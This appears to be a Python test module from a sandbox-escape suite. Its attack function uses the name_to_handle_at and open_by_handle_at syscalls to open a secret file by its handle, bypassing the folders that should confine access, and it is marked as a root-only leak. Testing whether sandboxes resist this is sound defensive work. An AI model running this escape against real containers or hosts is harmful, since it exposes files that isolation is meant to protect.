"""Opens a file by its handle, past every folder above it."""

import ctypes
import os
import struct

from tests.sandbox.escape.calls import syscall
from tests.sandbox.escape.target import Harm, Target

HARM = Harm.LEAK
ROOT_ONLY = True
AT_FDCWD = -100 & (2**64 - 1)


def attack(target: Target) -> bytes:
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    syscall("name_to_handle_at", AT_FDCWD, target.secret.encode(), handle, ctypes.addressof(mount), 0)
    root = os.open(target.folder, os.O_RDONLY)
    return os.read(syscall("open_by_handle_at", root, handle, os.O_RDONLY), 64)
